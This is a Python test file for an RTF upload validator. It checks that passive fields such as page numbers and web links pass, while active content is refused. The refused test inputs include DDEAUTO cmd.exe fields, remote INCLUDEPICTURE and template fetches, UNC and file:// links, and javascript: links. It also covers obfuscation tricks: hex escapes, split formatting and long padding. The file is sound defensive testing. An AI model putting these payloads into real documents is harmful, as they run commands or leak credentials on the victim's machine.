"""RTF: what it shows and what a person clicks is left; what it fetches, runs or opens is refused, however it is cut."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from espace.kernel.words import Refused
from espace.wire.files import RTF as KIND
from espace.wire.files import kind_of
from espace.wire.files.rtf import MAX_FIELD, STEPS, shows


def field(instruction: str, result: str = "") -> str:
    return rf"{{\field{{\*\fldinst {instruction}}}{{\fldrslt {result}}}}}"


def verdict(inside: str) -> str:
    try:
        assert kind_of(rf"{{\rtf1\ansi {inside}}}".encode()) == KIND
    except Refused as refusal:
        return refusal.reason.code
    return ""


LEFT = {
    "the number of a page": field("PAGE"),
    "with a format": field(r" PAGE  \\* MERGEFORMAT "),
    "in small letters": field("page"),
    "a sum": field("=SUM(A1:A3)"),
    "an instruction of nothing": field(""),
    "a link to the web": field('{HYPERLINK "https://exemple.fr/link?a=dde"}', "ici"),
    "one that is not quoted": field("HYPERLINK http://exemple.fr/"),
    "with what programs note behind it": field(r'{ HYPERLINK "https://exemple.fr/" }{{\*\datafield 00d0c9ea79f9}}'),
    "with a tip and a window": field(r'HYPERLINK "https://exemple.fr/" \\o "file: un conseil" \\t "_blank"'),
    "a link to an address": field('HYPERLINK "mailto:a@exemple.fr"'),
    "a link to a place of the same document": field(r'HYPERLINK \\l "Conclusion"', field("PAGEREF Conclusion \\\\h")),
    "a field within a field": field('IF ' + field("MERGEFIELD sexe", "F") + ' = "F" "Madame" "Monsieur"'),
    "a word of its text": "LINK, INCLUDEPICTURE et DDEAUTO ne sont que des mots",
    "a picture of its own": r"{\sp{\sn pibName}{\sv photo.png}}{\pict\pngblip 89504e47}",
    "a word that begins as another": r"{\objectivement \templates \fldtype}",
    "a drawing that leads to the web": r"{\sp{\sn pihlShape}{\sv {\*\hl{\hlfr https://a.fr}{\hlsrc https://a.fr}}}}",
}  # fmt: skip

ACTIVE = {
    "a link to a file": field(r'HYPERLINK "file://192.0.2.1/part"'),
    "a link to another machine": field(r'HYPERLINK "\\\\\\\\192.0.2.1\\\\part"'),
    "behind a tip": field(r'HYPERLINK \\o "https://exemple.fr" "file://192.0.2.1"'),
    "after one to the web": field('HYPERLINK "https://exemple.fr" "file://192.0.2.1"'),
    "a link to a script": field('HYPERLINK "javascript:alert(1)"'),
    "a link to a file beside it": field('HYPERLINK "autre.exe"'),
    "a link that is made when opened": field("HYPERLINK " + field("QUOTE 102 105")),
    "a picture elsewhere": field(r'INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'),
    "cut by formatting": field(r"{\rtlch INCLUDE}{\b PICTURE} x"),
    "cut by lines": field("INCL\r\nUDETEXT x"),
    "in codes": field(r"\'44\'44EAUTO cmd.exe"),
    "in Unicode": field(r"\u68DDE cmd.exe"),
    "behind a group that some readers drop": field(r"{\*\inconnu PAGE }DDE cmd.exe"),
    "the same with a space": field(r"{\* \inconnu PAGE }DDE cmd.exe"),
    "the same with a brace": field(r"{\*{\inconnu PAGE }}DDE cmd.exe"),
    "behind words that some readers drop": field(r"{\info PAGE }DDE cmd.exe"),
    "behind what programs note": field(r"D{\*\datafield 00}DE cmd.exe"),
    "in the result of a field": field(field("QUOTE x", "DDEAUTO") + " cmd.exe"),
    "in the field within": field("QUOTE " + field("DDEAUTO cmd.exe")),
    "far behind spaces": field(" " * 9000 + "DDEAUTO cmd.exe"),
    "a database": field("DATABASE \\\\c x"),
    "a button": field("MACROBUTTON Macro1 ici"),
    "a document that is put in": field("EMBED Word.Document.8"),
    "an unknown one": field("ZYGOMATIQUE"),
    "in capitals": r"{\FIELD{\*\FLDINST DDE x}}",
    "an object": r"{\object\objemb{\*\objdata 0105}}",
    "a template elsewhere": r"{\*\template http://192.0.2.1/a.dotm}",
    "letters from a database": r"{\*\mailmerge{\mmdatasource \\\\192.0.2.1\\a}}",
    "a picture that is elsewhere": r"{\sp{\sn pibName}{\sv http://192.0.2.1/a.png}}{\sp{\sn pibFlags}{\sv 2}}",
    "one on another machine": r"{\sp{\sn fillBlipName}{\sv \\\\192.0.2.1\\a.png}}",
    "a drawing that leads to a file": r"{\*\hl{\hlsrc file://192.0.2.1/a}}",
    "bytes within": field(r"PAGE {\bin3 }}}}"),
}


@pytest.mark.parametrize("name", LEFT)
def test_what_shows_or_waits_to_be_clicked_is_left(name: str) -> None:
    assert verdict(LEFT[name]) == ""


@pytest.mark.parametrize("name", ACTIVE)
def test_what_fetches_runs_or_opens_is_refused(name: str) -> None:
    assert verdict(ACTIVE[name]) == "file_active"


def test_a_field_that_does_not_end_is_broken() -> None:
    assert verdict(r"{\fldinst PAGE {") == "file_broken"


def test_fields_are_read_up_to_a_bound() -> None:
    assert verdict(field("PAGE") * 1000) == ""
    assert verdict(field("PAGE") * STEPS) == "file_outsized"
    assert verdict(field("QUOTE " + "x" * (MAX_FIELD - 100))) == ""
    assert verdict(field("QUOTE " + "x" * MAX_FIELD)) == "file_outsized"
    assert verdict(r"\fldinst" * 30_000) == "file_outsized"


@given(st.lists(st.sampled_from(["", r"{\b ", "}", "\r\n", r"\i ", r"\lang1036 "]), min_size=7, max_size=7))
def test_formatting_never_hides_a_word(cuts: list[str]) -> None:
    """Balanced or not, formatting between the letters of DDEAUTO makes nothing pass."""
    hidden = "".join(letter + cut for letter, cut in zip("DDEAUTO", cuts, strict=True))
    if hidden.count("{") >= hidden.count("}"):
        assert verdict(field(hidden + " cmd.exe")) != ""


@given(st.text(max_size=60))
def test_only_what_is_known_shows(instruction: str) -> None:
    if shows(instruction):
        words = instruction.split()
        assert not words or words[0][0] == "=" or words[0].rstrip('"').isascii()
        assert "DDE" not in (word.upper() for word in words[:1])


@given(st.text(alphabet="\\{}*'\" abu0fldinstHYPERLINK", max_size=120))
def test_whatever_is_in_a_field_is_left_or_refused(noise: str) -> None:
    assert verdict(r"{\field{\*\fldinst " + noise) in {"", "file_active", "file_broken", "file_outsized"}
